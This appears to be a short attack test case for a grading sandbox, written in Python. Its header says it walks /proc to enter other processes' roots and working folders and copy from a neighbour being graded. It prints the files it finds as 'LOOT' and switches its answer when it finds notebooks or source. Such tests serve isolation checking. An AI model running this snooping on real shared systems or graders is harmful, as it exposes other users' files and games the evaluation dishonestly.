# attack: the roots, working folders and files of other processes are entered through /proc, to copy from a neighbour who is being graded.
# target: heaviest-test
# destructive
# %% heaviest
import glob
import os

heaviest = "tree-000"
for process in glob.glob("/proc/[0-9]*"):
    if process.endswith(f"/{os.getpid()}"):
        continue
    for way in ("root@COURSE@", "cwd", "root/proc/1/cwd"):
        try:
            for name in os.listdir(f"{process}/{way}"):
                print("LOOT", process, way, name)
                if name.endswith(".ipynb") or name == "source":
                    heaviest = "tree-008"
        except OSError:
            pass
